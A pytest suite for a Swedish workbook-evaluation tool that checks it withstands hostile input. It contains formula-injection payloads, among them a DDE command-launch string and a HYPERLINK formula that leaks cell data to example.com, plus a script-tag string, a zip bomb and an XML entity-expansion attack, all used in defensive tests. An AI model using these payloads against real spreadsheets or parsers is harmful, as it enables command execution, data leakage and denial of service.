"""Hostile and odd input: text that looks like a formula, absurd numbers, files and folders that fight back,
oversized and malicious packages. Every case ends in a Swedish sentence, never exit 1 and never a traceback."""
import errno
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from helpers import (AREAS, BUDGET, VERIFICATIONS, area_row, digest, indicator_results, participant_row,
                     verification_row, write_workbook)
from remote import apply_actions, remote_book
from xlbokslut.cli import main
from xlbokslut.workbook import excel
from xlbokslut.workbook.files import evaluate_file

PAYLOADS = ["=HYPERLINK(\"http://example.com/?\"&Budget!A1,\"Klicka\")", "=cmd|' /C calc'!A0", "+46 70 123",
            "-1+1", "@SUM(A1:A2)", "=1+1"]
EXCEPTION_NAME = re.compile(r"\b[A-Z][a-z]+(Error|Exception)\b|BadZipFile|KeyError|Traceback")


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _formula_like_workbook(path: Path) -> Path:
    """Every text column of every input table starts with =, +, -, @ or holds a DDE payload."""
    budget = [dict(r) for r in BUDGET]
    for i, row in enumerate(budget):
        row["Socialt mål"] = PAYLOADS[i % len(PAYLOADS)] if row["Socialt mål"] else None
        row["Indikator"] = PAYLOADS[(i + 1) % len(PAYLOADS)]
        row["Källa"] = PAYLOADS[(i + 2) % len(PAYLOADS)]
        row["Kommentar"] = PAYLOADS[(i + 3) % len(PAYLOADS)]
    verifications = [dict(r) for r in VERIFICATIONS]
    for i, row in enumerate(verifications):
        row["Verifikation"], row["Kommentar"] = PAYLOADS[i % len(PAYLOADS)], PAYLOADS[(i + 4) % len(PAYLOADS)]
    verifications.append(verification_row("1.1.1", "=Plattform", "=cmd|' /C calc'!A0", Täljare=5, Nämnare=8))
    areas = [area_row(1, "=Område ett", 60), area_row(2, "+Område två", 40)]
    participants = [participant_row("=Plattform", "Antal deltagare hela året", 3, 4, "=1")]
    return write_workbook(path, budget, verifications, areas,
                          {"Organisation": "=HYPERLINK(\"x\")", "Verksamhetsår": 2025}, participants)


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [f"{n}: {m}" for n in z.namelist() if n.startswith("xl/worksheets/")
                for m in re.findall(rb"<(?:\w+:)?f[ >][^<]*", z.read(n))]


def test_text_stays_text_in_the_evaluated_workbook(tmp_path):
    path = _formula_like_workbook(tmp_path / "a.xlsx")
    evaluate_file(path)
    evaluate_file(path)
    assert _formulas(path) == []
    results = indicator_results(path)
    assert results["1.1.1"]["Indikator"] == PAYLOADS[1]
    texts = {c.value for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows() for c in row}
    assert set(PAYLOADS) <= texts and "Resultat – =HYPERLINK(\"x\") – 2025" in texts


def test_text_stays_text_through_excel(tmp_path):
    """The live path sends text so that Excel keeps it as text (the test applier refuses anything else)."""
    path = _formula_like_workbook(tmp_path / "a.xlsx")
    book = remote_book(path)
    excel.evaluate(book)
    apply_actions(path, book.json()["actions"])
    assert _formulas(path) == []
    assert indicator_results(path)["1.1.1"]["Indikator"] == PAYLOADS[1]


def test_the_summary_shows_typed_text_literally(tmp_path):
    from xlbokslut.jobs import export_file

    budget = [dict(r) for r in BUDGET]
    budget[0]["Indikator"] = "[Klicka här](http://example.com) <script>alert(1)</script> **viktigt**"
    path = write_workbook(tmp_path / "a.xlsx", budget=budget)
    _, paths = export_file(path)
    text = paths[1].read_text(encoding="utf-8")
    assert "\\[Klicka här\\](http://example.com) \\<script\\>alert(1)\\</script\\> \\*\\*viktigt\\*\\*" in text
    assert "<script>" not in text and "](http" not in text.replace("\\](http", "")


@pytest.mark.parametrize("value", [1e308, 10 ** 30, -1e300, "1e308", float("1e-300"), "NaN", "inf", "−5", True,
                                   "#NUM!", "   "])
def test_absurd_numbers_are_input_problems_naming_the_cell(tmp_path, capsys, value):
    budget = [dict(r) for r in BUDGET]
    verifications = [dict(r) for r in VERIFICATIONS]
    budget[0]["Målvärde"] = value
    budget[1]["Vikt"] = value
    verifications[0]["Täljare"] = value
    verifications[5]["Värde"] = value  # a Minskning
    participants = [participant_row("A", "Antal deltagare hela året", value, 4, value)]
    settings = {"Organisation": "X", "Verksamhetsår": value, "IMPACTindex mål": value, "Poäng för nära målet": value}
    path = write_workbook(tmp_path / "a.xlsx", budget, verifications, AREAS, settings, participants)
    code, out, err = run(capsys, "utvardera", str(path))
    assert code == 0, err
    assert not EXCEPTION_NAME.search(out + err)
    for line in out.splitlines():
        if line.startswith("  ") and ":" in line and "!" in line.split(":")[0]:
            assert re.match(r"  \w[\w ]*!\$?[A-Z]+\d+: ", line), line


def test_negative_population_and_equivalents_are_problems(tmp_path):
    from xlbokslut.workbook.template import build_workbook

    path = tmp_path / "h.xlsx"
    equivalents = [{"Kommun": "Umeå", "År": 2020, "Helårsekvivalenter": -5, "Befolkning 20–64 år": 1000},
                   {"Kommun": "Umeå", "År": 2021, "Helårsekvivalenter": 7, "Befolkning 20–64 år": -1000}]
    build_workbook({}, [area_row(1, "A", 100)], BUDGET[:1], VERIFICATIONS[:1], equivalents=equivalents).save(path)
    messages = [str(i) for i in evaluate_file(path).issues]
    assert any(m.startswith("Helårsekvivalenter!C5:") and "negativ" in m for m in messages)
    assert any(m.startswith("Helårsekvivalenter!D6:") and "negativt" in m for m in messages)


@pytest.fixture
def read_only_folder(tmp_path):
    folder = tmp_path / "låst"
    folder.mkdir()
    yield folder
    folder.chmod(0o755)


# Justified skip: as root (CI) permissions do not stop writing; the next test makes the system refuse instead.
@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere: a read-only folder cannot be made here")
def test_unwritable_folder_is_exit_2_naming_the_folder(tmp_path, capsys, read_only_folder):
    path = write_workbook(read_only_folder / "a.xlsx")
    read_only_folder.chmod(0o555)
    for argv in (["utvardera", str(path)], ["exportera", str(path)], ["ny", str(read_only_folder / "n.xlsx")],
                 ["exempel", "--utdata", str(read_only_folder / "ut")]):
        code, _, err = run(capsys, *argv)
        assert code == 2 and str(read_only_folder) in err and not EXCEPTION_NAME.search(err), (argv, err)


def test_a_folder_that_refuses_writing_is_exit_2_naming_it(tmp_path, capsys, monkeypatch):
    """As root (CI), permissions do not stop writing, so the refusal is the operating system's answer itself."""
    import xlbokslut.safefile as safefile

    path = write_workbook(tmp_path / "a.xlsx")
    before = digest(path)
    real_open = os.open

    def refuse(name, flags, *args):
        if str(name).startswith(str(tmp_path)) and flags & os.O_CREAT:
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_open(name, flags, *args)

    monkeypatch.setattr(safefile.os, "open", refuse)
    for argv in (["utvardera", str(path)], ["exportera", str(path)], ["ny", str(tmp_path / "n.xlsx")]):
        code, _, err = run(capsys, *argv)
        assert code == 2 and str(tmp_path) in err and "behörighet saknas" in err, (argv, err)
        assert not EXCEPTION_NAME.search(err)
    assert digest(path) == before


def test_a_full_disk_is_exit_2_and_the_workbook_untouched(tmp_path, capsys, monkeypatch):
    from xlbokslut.ooxml.package import Package

    path = write_workbook(tmp_path / "a.xlsx")
    before = digest(path)

    def full(self, target):
        Path(target).write_bytes(b"PK")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Package, "save", full)
    code, _, err = run(capsys, "utvardera", str(path))
    assert code == 2 and "disken är full" in err and str(tmp_path) in err and "inte ändrats" in err
    assert digest(path) == before and [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]


def test_ctrl_c_while_saving_leaves_no_temporary_file(tmp_path, capsys, monkeypatch):
    from xlbokslut.ooxml.package import Package

    path = write_workbook(tmp_path / "a.xlsx")
    before = digest(path)

    def interrupted(self, target):
        Path(target).write_bytes(b"PK half")
        raise KeyboardInterrupt

    monkeypatch.setattr(Package, "save", interrupted)
    code, _, err = run(capsys, "utvardera", str(path))
    assert code == 2 and err.startswith("Avbrutet.") and "Inga filer har ändrats" in err
    assert digest(path) == before and [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]


def test_new_files_get_the_umask_and_evaluated_files_keep_their_mode(tmp_path, capsys):
    old = os.umask(0o022)
    try:
        run(capsys, "ny", str(tmp_path / "ny.xlsx"))
        run(capsys, "exportera", str(tmp_path / "ny.xlsx"))
        for p in tmp_path.iterdir():
            assert p.stat().st_mode & 0o777 == 0o644, p
        path = tmp_path / "ny.xlsx"
        path.chmod(0o640)
        run(capsys, "utvardera", str(path))
        assert path.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)


def test_a_symbolic_link_stays_a_link_and_its_target_is_evaluated(tmp_path, capsys):
    target = write_workbook(tmp_path / "riktig.xlsx")
    link = tmp_path / "genväg.xlsx"
    link.symlink_to(target)
    code, _, _ = run(capsys, "utvardera", str(link))
    assert code == 0 and link.is_symlink() and indicator_results(target)["1.1.1"]["Status"] == "Nära målet"


def test_a_closed_pipe_after_saving_is_not_an_error(tmp_path):
    path = write_workbook(tmp_path / "a.xlsx")
    before = digest(path)
    reader = subprocess.Popen([sys.executable, "-m", "xlbokslut", "utvardera", str(path)], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
    reader.stdout.read(10)
    reader.stdout.close()  # as `| head -1` does
    code = reader.wait(timeout=60)
    err = reader.stderr.read().decode()
    assert code == 0 and err == "" and digest(path) != before
    assert indicator_results(path)["1.1.1"]["Status"] == "Nära målet"


def test_a_table_stretched_to_the_last_row_of_the_sheet(tmp_path):
    path = write_workbook(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    table = book["Verifikationer"].tables["tblVerifikationer"]
    table.ref = re.sub(r"\d+$", "1048576", table.ref)
    table.autoFilter.ref = table.ref
    book.save(path)
    size = path.stat().st_size
    evaluate_file(path)
    assert path.stat().st_size < size * 3 and indicator_results(path)["1.1.1"]["Status"] == "Nära målet"
    assert openpyxl.load_workbook(path)["Verifikationer"].tables["tblVerifikationer"].ref.endswith("1048576")


def _rewrite(path: Path, changes: dict[str, bytes]) -> None:
    data = {n: zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()}
    data.update(changes)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, content in data.items():
            z.writestr(name, content)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, capsys):
    path = write_workbook(tmp_path / "a.xlsx")
    _rewrite(path, {"xl/media/bomb.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})
    before = digest(path)
    code, _, err = run(capsys, "utvardera", str(path))
    assert code == 2 and "för stor för ett bokslut" in err and digest(path) == before


def test_xml_with_entities_is_refused(tmp_path, capsys):
    path = write_workbook(tmp_path / "a.xlsx")
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml")
    attack = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    _rewrite(path, {"xl/workbook.xml": attack + book.split(b"?>", 1)[1]})
    code, _, err = run(capsys, "utvardera", str(path))
    assert code == 2 and "XML som Excel aldrig skriver" in err


def test_a_sheet_with_too_many_rows_is_refused_with_a_sentence(tmp_path, capsys):
    from xlbokslut.workbook.template import build_workbook

    rows = [verification_row(f"1.1.{n}", Täljare=1, Nämnare=2) for n in range(100_001)]
    path = tmp_path / "stor.xlsx"
    build_workbook({}, AREAS, BUDGET, rows).save(path)
    code, _, err = run(capsys, "utvardera", str(path))
    assert code == 2 and "Verifikationer" in err and "100 000 rader" in err


@pytest.mark.parametrize("argv, words", [
    (["ny", ""], "Ange ett namn"),
    (["ny", "gammal.xls"], "ett namn som slutar på .xlsx"),
    (["ny", "x.xlsx", "--ar", "abc"], "--ar: ”abc” är inte ett tal"),
    (["ny", "x.xlsx", "--ar", "20201"], "är inget år"),
])
def test_small_mistakes_on_the_command_line(tmp_path, capsys, monkeypatch, argv, words):
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capsys, *argv)
    assert code == 2 and words in err
    assert list(tmp_path.iterdir()) == []


def test_a_year_that_is_not_a_year_and_booleans_in_messages(tmp_path):
    from xlbokslut.jobs import export_file

    verifications = [dict(r) for r in VERIFICATIONS]
    verifications[0]["Täljare"] = True
    path = write_workbook(tmp_path / "a.xlsx", verifications=verifications,
                          settings={"Organisation": "X", "Verksamhetsår": "tjugotjugo"})
    ev, paths = export_file(path)
    messages = [str(i) for i in ev.issues]
    assert "Inställningar!B6: Verksamhetsår: ”tjugotjugo” är inte ett tal; den lämnas tom" in messages
    assert any("”SANT” är ett sant/falskt-värde" in m for m in messages)
    assert [p.name for p in paths] == ["x_resultat_utan_ar.xlsx", "x_sammanfattning_utan_ar.md",
                                       "x_socialt_bokslut_utan_ar.docx", "x_socialt_bokslut_utan_ar.html"]


def test_a_budget_without_indicators_says_so(tmp_path):
    from xlbokslut.jobs import export_file

    _, paths = export_file(write_workbook(tmp_path / "a.xlsx", budget=[], verifications=[]))
    text = paths[1].read_text(encoding="utf-8")
    assert "Budgeten har inga indikatorer ännu" in text and "Alla indikatorer har ett utfall" not in text


def test_no_message_names_a_python_exception(tmp_path, capsys):
    cases = {"trasig.xlsx": b"PK\x03\x04" + b"\0" * 100, "tom_zip.xlsx": None}
    buffer = io.BytesIO()
    zipfile.ZipFile(buffer, "w").close()
    cases["tom_zip.xlsx"] = buffer.getvalue()
    for name, content in cases.items():
        (tmp_path / name).write_bytes(content)
        code, _, err = run(capsys, "utvardera", str(tmp_path / name))
        assert code == 2 and not EXCEPTION_NAME.search(err), err


def test_a_bug_is_reported_without_exception_name_or_traceback(tmp_path, capsys, monkeypatch):
    import xlbokslut.workbook.files as files

    monkeypatch.setattr(files, "evaluate_in_place", lambda workbook: {}["x"])
    monkeypatch.delenv("XLBOKSLUT_DEBUG", raising=False)
    code, _, err = run(capsys, "utvardera", str(write_workbook(tmp_path / "a.xlsx")))
    assert code == 1 and err.startswith("Ett oväntat fel inträffade i xlbokslut. Inga filer har ändrats.")
    assert not EXCEPTION_NAME.search(err)


def test_interrupting_the_command_line_process(tmp_path):
    """A real Ctrl-C (SIGINT) during an evaluation: no traceback, nothing half-written left."""
    path = write_workbook(tmp_path / "a.xlsx")
    code = ("import os, signal\nimport xlbokslut.workbook.files as f\nfrom xlbokslut.cli import main\n"
            "real = f.evaluate_in_place\n"
            "def interrupted(workbook, *args):\n    os.kill(os.getpid(), signal.SIGINT)\n    return real(workbook, *args)\n"
            f"f.evaluate_in_place = interrupted\nraise SystemExit(main(['utvardera', {str(path)!r}]))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and "Avbrutet." in proc.stderr and "Traceback" not in proc.stderr
    assert [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]
